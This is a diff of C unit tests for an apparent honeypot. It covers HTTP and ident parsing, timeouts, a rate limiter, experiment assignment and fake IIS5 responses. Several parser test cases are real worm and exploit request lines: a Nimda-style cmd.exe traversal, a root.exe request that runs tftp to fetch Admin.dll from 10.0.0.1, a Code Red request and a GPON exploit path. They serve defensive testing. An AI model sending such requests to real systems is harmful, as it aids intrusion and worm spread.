@@ -7,9 +7,12 @@
 #include <unistd.h>
 
 #include "addr.h"
+#include "http.h"
+#include "ident.h"
+#include "respond.h"
 #include "config.h"
 #include "jsonl.h"
-#include "log.h"
+#include "text.h"
 #include "queue.h"
 #include "record.h"
 #include "session.h"
@@ -231,10 +234,14 @@ static void test_escape(void)
 {
 	char out[64];
 
-	log_escape("GET /\r\n\x00\xff\\", 10, out, sizeof(out));
+	text_escape_into("GET /\r\n\x00\xff\\", 10, out, sizeof(out), false);
 	CHECK(strcmp(out, "GET /\\x0d\\x0a\\x00\\xff\\x5c") == 0, "escaped '%s'", out);
-	log_escape("abcdefghijkl", 12, out, 8);
+	text_escape_into("GET /\r\n\t\x01", 9, out, sizeof(out), true);
+	CHECK(strcmp(out, "GET /\r\n\t\\x01") == 0, "newlines kept '%s'", out);
+	text_escape_into("abcdefghijkl", 12, out, 8, false);
 	CHECK(strlen(out) < 8, "bounded '%s'", out);
+	text_escape_into("\xff\xff\xff", 3, out, 6, false);
+	CHECK(strcmp(out, "\\xff") == 0, "never splits an escape '%s'", out);
 }
 
 static int write_file(const char *path, const char *text)
@@ -359,47 +366,301 @@ static void test_jsonl_format(void)
 static void test_timeouts(void)
 {
 	static struct worker w;
+	static struct session a, b;
 	struct worker_shared sh = {0};
 	struct config cfg;
-	struct session a = {0}, b = {0};
 	const uint64_t ms = 1000000ULL;
+	const uint64_t delays[TIMEOUT_KINDS] = {
+		[TIMEOUT_IDLE] = 100, [TIMEOUT_SESSION] = 1000,
+		[TIMEOUT_RESPOND] = 0, [TIMEOUT_DRIP] = 50,
+	};
 
 	config_defaults(&cfg);
-	cfg.idle_timeout_ms = 100;
-	cfg.session_timeout_ms = 1000;
 	sh.cfg = &cfg;
 	w.shared = &sh;
-	list_init(&w.idle);
-	list_init(&w.age);
+	uv_loop_init(&w.loop);
+	uv_timer_init(&w.loop, &w.timeout_timer);
+	w.timeout_timer.data = &w;
+	timeouts_init(&w, delays);
+	for (int k = 0; k < TIMEOUT_KINDS; k++) {
+		list_init(&a.tlinks[k]);
+		list_init(&b.tlinks[k]);
+	}
 	CHECK(timeouts_next_ms(&w, 0) == -1, "no sessions, no deadline");
 
-	a.start_ns = a.last_in_ns = 10 * ms;
-	list_init(&a.idle_link);
-	list_init(&a.age_link);
-	list_append(&w.idle, &a.idle_link);
-	list_append(&w.age, &a.age_link);
+	timeouts_set(&w, &a, TIMEOUT_IDLE, 10 * ms);
+	timeouts_set(&w, &a, TIMEOUT_SESSION, 10 * ms);
 	CHECK(timeouts_next_ms(&w, 10 * ms) == 100, "idle first: %lld",
 	    (long long)timeouts_next_ms(&w, 10 * ms));
 	CHECK(timeouts_next_ms(&w, 10 * ms + 1) == 100, "rounds up");
 	CHECK(timeouts_next_ms(&w, 500 * ms) == 0, "overdue is 0");
+	timeouts_set(&w, &a, TIMEOUT_RESPOND, 10 * ms);
+	CHECK(list_empty(&w.tlists[TIMEOUT_RESPOND]), "a kind with delay 0 is off");
 
-	b.start_ns = b.last_in_ns = 50 * ms;
-	list_init(&b.idle_link);
-	list_init(&b.age_link);
-	list_append(&w.idle, &b.idle_link);
-	list_append(&w.age, &b.age_link);
+	timeouts_set(&w, &b, TIMEOUT_IDLE, 50 * ms);
+	timeouts_set(&w, &b, TIMEOUT_SESSION, 50 * ms);
 	/* a keeps talking until just before its session deadline */
-	a.last_in_ns = 1000 * ms;
-	timeouts_touch(&w, &a);
+	timeouts_set(&w, &a, TIMEOUT_IDLE, 1000 * ms);
 	CHECK(timeouts_next_ms(&w, 60 * ms) == 90, "b's idle deadline: %lld",
 	    (long long)timeouts_next_ms(&w, 60 * ms));
-	timeouts_remove(&b);
-	timeouts_remove(&b);         /* twice is harmless */
+	timeouts_clear_all(&b);
+	timeouts_clear_all(&b);      /* twice is harmless */
 	CHECK(timeouts_next_ms(&w, 900 * ms) == 110, "a's session deadline: %lld",
 	    (long long)timeouts_next_ms(&w, 900 * ms));
-	timeouts_remove(&a);
+	timeouts_set(&w, &b, TIMEOUT_DRIP, 950 * ms);
+	CHECK(timeouts_next_ms(&w, 960 * ms) == 40, "b's drip: %lld",
+	    (long long)timeouts_next_ms(&w, 960 * ms));
+	timeouts_clear_all(&a);
+	timeouts_clear_all(&b);
 	CHECK(timeouts_next_ms(&w, 0) == -1, "empty again");
+	uv_close((uv_handle_t *)&w.timeout_timer, NULL);
+	uv_run(&w.loop, UV_RUN_DEFAULT);
+	uv_loop_close(&w.loop);
 	config_free(&cfg);
+}
+
+static int64_t parse(const char *text, struct http_request *req)
+{
+	return http_parse_request(text, strlen(text), req);
+}
+
+static bool span_is(const char *buf, struct http_span sp, const char *want)
+{
+	return sp.len == strlen(want) && memcmp(buf + sp.off, want, sp.len) == 0;
+}
+
+static void test_http_parser(void)
+{
+	static const struct {
+		const char *text;
+		int64_t rc;          /* > 0: the whole text is the head */
+		const char *method, *target, *version, *host, *ua;
+		int keep_alive;
+	} cases[] = {
+		{"GET / HTTP/1.0\r\n\r\n", 1, "GET", "/", "HTTP/1.0", "", "", 0},
+		{"GET / HTTP/1.1\r\nHost: a\r\n\r\n", 1, "GET", "/", "HTTP/1.1", "a", "", 1},
+		{"GET / HTTP/1.1\nHost: a\nConnection: close\n\n", 1, "GET", "/", "HTTP/1.1", "a", "", 0},
+		{"GET / HTTP/1.0\r\nConnection: Keep-Alive\r\n\r\n", 1, "GET", "/", "HTTP/1.0", "", "", 1},
+		{"\r\n\r\nHEAD /x HTTP/1.1\r\nUser-Agent:  zgrab/0.x \r\n\r\n", 1, "HEAD", "/x", "HTTP/1.1", "", "zgrab/0.x", 1},
+		{"GET /scripts/..%%35c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n", 1, "GET",
+		 "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir", "HTTP/1.0", "", "", 0},
+		{"GET /scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n", 1, "GET",
+		 "/scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll", "HTTP/1.0", "", "", 0},
+		{"GET /default.ida?NNNN HTTP/1.0\r\nContent-type: text/xml\r\nHOST:www.worm.com\r\n Accept: */*\r\nContent-length: 3569 \r\n\r\n",
+		 1, "GET", "/default.ida?NNNN", "HTTP/1.0", "www.worm.com", "", 0},
+		{"GET /path\r\n", 1, "GET", "/path", "", "", "", 0},
+		{"GET / HTTP/1.1\r\nHost: a\r\n", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
+		{"GET / HTTP/1.1", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
+		{"GE", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
+		{"", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
+		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
+		{"GET / XTTP/1.0\r\n\r\n", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
+		{"G(T / HTTP/1.0\r\n\r\n", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
+		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXYZ", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
+		{"GET \r\n\r\n", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
+	};
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct http_request req;
+		const char *t = cases[i].text;
+		int64_t rc = parse(t, &req);
+		int64_t want = cases[i].rc > 0 ? (int64_t)strlen(t) : cases[i].rc;
+		CHECK(rc == want, "http case %zu: rc %lld want %lld", i, (long long)rc,
+		    (long long)want);
+		if (rc <= 0 || want <= 0)
+			continue;
+		CHECK(span_is(t, req.method, cases[i].method), "case %zu method", i);
+		CHECK(span_is(t, req.target, cases[i].target), "case %zu target", i);
+		CHECK(span_is(t, req.version, cases[i].version), "case %zu version", i);
+		CHECK(span_is(t, req.host, cases[i].host), "case %zu host", i);
+		CHECK(span_is(t, req.user_agent, cases[i].ua), "case %zu ua", i);
+		CHECK(req.keep_alive == cases[i].keep_alive, "case %zu keep-alive", i);
+	}
+
+	/* Every proper prefix of a request is incomplete, never invalid. */
+	const char *full = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n"
+	    "User-Agent: Hello, World\r\nContent-Length: 5\r\n\r\n";
+	size_t n = strlen(full), bad = 0;
+	for (size_t k = 0; k < n; k++) {
+		struct http_request req;
+		if (http_parse_request(full, k, &req) != HTTP_INCOMPLETE)
+			bad++;
+	}
+	CHECK(bad == 0, "%zu prefixes were not incomplete", bad);
+	struct http_request req;
+	CHECK(http_parse_request(full, n, &req) == (int64_t)n && req.content_length == 5,
+	    "content length");
+
+	/* The head finder, fed a byte at a time, finds the same end. */
+	size_t hint = 0, found = 0;
+	for (size_t k = 1; k <= n && !found; k++)
+		found = http_find_head_end(full, k, &hint);
+	CHECK(found == n, "head end %zu want %zu", found, n);
+	hint = 0;
+	CHECK(http_find_head_end("\r\n\r\nGET / HTTP/1.0\n\n", 20, &hint) == 20, "leading blank lines");
+	hint = 0;
+	CHECK(http_find_head_end("GET / HTTP/1.0\r\nA: b\r\n", 22, &hint) == 0, "no end yet");
+}
+
+static void test_ident_parser(void)
+{
+	static const struct {
+		const char *line;
+		enum ident_status status;
+		const char *a, *b, *c;   /* opsys, charset, userid / error */
+	} cases[] = {
+		{"6191, 23 : USERID : UNIX : stjohns", IDENT_USERID, "UNIX", "", "stjohns"},
+		{"6191 , 23:USERID:UNIX,US-ASCII:alice:with:colons", IDENT_USERID, "UNIX", "US-ASCII", "alice:with:colons"},
+		{"6191,23 : USERID : OTHER , UTF-8 :  bob", IDENT_USERID, "OTHER", "UTF-8", "bob"},
+		{"6191, 23 : ERROR : NO-USER", IDENT_ERROR, NULL, NULL, "NO-USER"},
+		{"6191, 23 : ERROR : HIDDEN-USER ", IDENT_ERROR, NULL, NULL, "HIDDEN-USER"},
+		{"6191, 23 : ERROR : X-CUSTOM", IDENT_ERROR, NULL, NULL, "X-CUSTOM"},
+		{"6191, 24 : USERID : UNIX : wrongport", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"23, 6191 : USERID : UNIX : swapped", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"6191, 23 : USERID : UNIX", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"6191, 23 : USERID : UNIX : ", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"6191, 23 : ERROR", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"6191, 23 : BOGUS : x", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"SSH-2.0-OpenSSH_9.2", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"", IDENT_MALFORMED, NULL, NULL, NULL},
+		{"6191, 23 : USERID : : nobody", IDENT_MALFORMED, NULL, NULL, NULL},
+	};
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct ident_reply r;
+		enum ident_status st = ident_parse_reply(cases[i].line, strlen(cases[i].line),
+		    6191, 23, &r);
+		CHECK(st == cases[i].status, "ident case %zu: %s", i, ident_status_name(st));
+		if (st != cases[i].status)
+			continue;
+		if (st == IDENT_USERID)
+			CHECK(!strcmp(r.opsys, cases[i].a) && !strcmp(r.charset, cases[i].b) &&
+			    !strcmp(r.userid, cases[i].c), "ident case %zu: '%s' '%s' '%s'", i,
+			    r.opsys, r.charset, r.userid);
+		if (st == IDENT_ERROR)
+			CHECK(!strcmp(r.error, cases[i].c), "ident case %zu: '%s'", i, r.error);
+	}
+	struct ident_reply r;
+	CHECK(ident_parse_reply("6191, 23 : ERROR : NO\0USER", 26, 6191, 23, &r) ==
+	    IDENT_MALFORMED, "a NUL is malformed");
+}
+
+static void test_ident_limiter(void)
+{
+	const uint64_t s = 1000000000ULL;
+	struct ident_limiter *l = ident_limiter_new(8, 60 * s);
+	struct addr a, b;
+	int allowed = 0;
+
+	addr_parse("10.0.0.1:1", &a);
+	addr_parse("10.0.0.2:1", &b);
+	CHECK(ident_limiter_allow(l, &a, 1 * s), "first probe");
+	CHECK(!ident_limiter_allow(l, &a, 30 * s), "again within the interval");
+	CHECK(ident_limiter_allow(l, &b, 30 * s), "another source");
+	CHECK(ident_limiter_allow(l, &a, 62 * s), "after the interval");
+	/* A full table refuses rather than forgets a fresh entry. */
+	for (int i = 0; i < 1000; i++) {
+		struct addr x;
+		char text[32];
+		snprintf(text, sizeof(text), "10.1.%d.%d:1", i / 250, i % 250);
+		addr_parse(text, &x);
+		allowed += ident_limiter_allow(l, &x, 63 * s);
+	}
+	CHECK(allowed <= 8, "a table of 8 allowed %d fresh sources", allowed);
+	CHECK(!ident_limiter_allow(l, &a, 64 * s), "still limited while the table is full");
+	ident_limiter_free(l);
+}
+
+static void test_experiment_assignment(void)
+{
+	struct config cfg;
+	struct respond_set set;
+	char err[CONFIG_ERR_LEN];
+	int counts[3] = {0};
+
+	config_defaults(&cfg);
+	config_set(&cfg, "experiment", "silent:1,banner:1,tarpit:2", err, sizeof(err));
+	config_set(&cfg, "experiment-salt", "unit-test", err, sizeof(err));
+	CHECK(respond_build(&set, &cfg, err, sizeof(err)) == 0, "build: %s", err);
+	CHECK(set.narms == 3 && set.total_weight == 4, "arms");
+	for (int i = 0; i < 10000; i++) {
+		struct addr a;
+		char text[48];
+		snprintf(text, sizeof(text), "%d.%d.%d.%d:%d", 1 + i % 200, (i * 7) % 256,
+		    (i / 256) % 256, i % 256, 1024 + i);
+		addr_parse(text, &a);
+		int arm = respond_arm(&set, &a);
+		counts[arm]++;
+		/* sticky: another port, the same source, the same arm */
+		snprintf(text + strlen(text) - 4, 5, "9999");
+		struct addr again;
+		if (addr_parse(text, &again) == 0 && respond_arm(&set, &again) != arm)
+			counts[0] = -100000;
+	}
+	CHECK(counts[0] >= 0, "assignment is sticky per source address");
+	CHECK(abs(counts[0] - 2500) < 250 && abs(counts[1] - 2500) < 250 &&
+	    abs(counts[2] - 5000) < 350, "balanced: %d %d %d", counts[0], counts[1], counts[2]);
+	struct addr a;
+	addr_parse("192.0.2.7:1", &a);
+	int first = respond_arm(&set, &a);
+	respond_free(&set);
+	config_set(&cfg, "experiment-salt", "another-salt", err, sizeof(err));
+	respond_build(&set, &cfg, err, sizeof(err));
+	int moved = 0;
+	for (int i = 0; i < 100; i++) {
+		char text[32];
+		snprintf(text, sizeof(text), "192.0.2.%d:1", i);
+		struct addr x;
+		addr_parse(text, &x);
+		moved += respond_arm(&set, &x) != first;
+	}
+	CHECK(moved > 20, "the salt changes the assignment (%d of 100 differ)", moved);
+	respond_free(&set);
+
+	config_set(&cfg, "experiment", "silent:1,bogus:1", err, sizeof(err));
+	CHECK(respond_build(&set, &cfg, err, sizeof(err)) < 0 && strstr(err, "bogus"),
+	    "unknown arm: %s", err);
+	respond_free(&set);
+	config_set(&cfg, "experiment", "silent:0", err, sizeof(err));
+	CHECK(respond_build(&set, &cfg, err, sizeof(err)) < 0 && strstr(err, "weight"),
+	    "zero weight: %s", err);
+	respond_free(&set);
+	config_free(&cfg);
+}
+
+static void test_personalities(void)
+{
+	struct respond_personality p;
+	char err[CONFIG_ERR_LEN], out[8192];
+	const struct respond_template *t;
+
+	CHECK(respond_load_personality(&p, FLYPAPER_TEMPLATES_DIR, "iis5", err, sizeof(err)) == 0,
+	    "load iis5: %s", err);
+	t = respond_route(&p, "/scripts/root.exe?/c+dir");
+	CHECK(t && strstr(t->head, "200 OK") && strstr(t->body, "Directory of"), "root.exe gets a dir");
+	t = respond_route(&p, "/nothing-here");
+	CHECK(t && strstr(t->head, "404"), "404 by default");
+	t = respond_route(&p, NULL);
+	CHECK(t != NULL, "@timeout route");
+	size_t n = respond_render(t, true, false, out, sizeof(out));
+	out[n] = '\0';
+	CHECK(strncmp(out, "HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/5.0\r\n", 44) == 0, "head: %.60s", out);
+	CHECK(strstr(out, "\r\nConnection: keep-alive\r\n") && strstr(out, "\r\nDate: "), "added headers");
+	char want[64];
+	snprintf(want, sizeof(want), "Content-Length: %zu\r\n", t->body_len);
+	CHECK(strstr(out, want) && n == (size_t)(strstr(out, "\r\n\r\n") + 4 - out) + t->body_len,
+	    "length matches the body");
+	n = respond_render(t, false, true, out, sizeof(out));
+	CHECK(n > 4 && memcmp(out + n - 4, "\r\n\r\n", 4) == 0, "HEAD has no body");
+	for (size_t k = 0; k < p.nroutes; k++) {
+		free(p.routes[k].pattern);
+		free(p.routes[k].tpl.head);
+		free(p.routes[k].tpl.body);
+	}
+	free(p.routes);
+	CHECK(respond_load_personality(&p, "/nonexistent", "iis5", err, sizeof(err)) < 0 &&
+	    strstr(err, "/nonexistent/iis5/routes"), "missing templates: %s", err);
+	CHECK(respond_tarpit_byte(0) == 'H' && respond_tarpit_byte(1000000) != '\0', "tarpit stream");
 }
 
 int main(void)
@@ -413,6 +674,11 @@ int main(void)
 	test_config();
 	test_jsonl_format();
 	test_timeouts();
+	test_http_parser();
+	test_ident_parser();
+	test_ident_limiter();
+	test_experiment_assignment();
+	test_personalities();
 	printf("unit: %d passed, %d failed\n", passed, failed);
 	return failed ? 1 : 0;
 }
